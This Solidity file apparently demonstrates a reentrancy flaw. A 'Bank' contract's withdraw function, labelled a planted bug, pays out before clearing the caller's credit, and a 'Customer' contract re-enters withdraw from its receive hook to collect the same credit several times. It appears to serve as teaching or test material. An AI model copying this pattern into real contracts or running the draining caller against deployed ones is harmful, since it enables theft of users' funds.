// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// Keeps the coins of its customers. It has a planted bug.
contract Bank {
    uint256 public total;
    mapping(address => uint256) public credit;

    function deposit() external payable {
        credit[msg.sender] += msg.value;
        total += msg.value;
    }

    /// The bug: it pays before it books, so the receiver can withdraw again.
    function withdraw() external {
        uint256 amount = credit[msg.sender];
        require(amount > 0, "no credit");
        (bool paid, ) = msg.sender.call{value: amount}("");
        require(paid, "not paid");
        total -= credit[msg.sender];
        credit[msg.sender] = 0;
    }
}

/// A customer of the bank that withdraws again while it is being paid.
contract Customer {
    Bank public immutable bank;
    uint256 public rounds;

    constructor(Bank bank_) {
        bank = bank_;
    }

    function deposit() external payable {
        bank.deposit{value: msg.value}();
    }

    function withdraw(uint256 again) external {
        rounds = again % 4;
        bank.withdraw();
    }

    receive() external payable {
        if (rounds > 0 && address(bank).balance >= bank.credit(address(this))) {
            rounds -= 1;
            bank.withdraw();
        }
    }
}
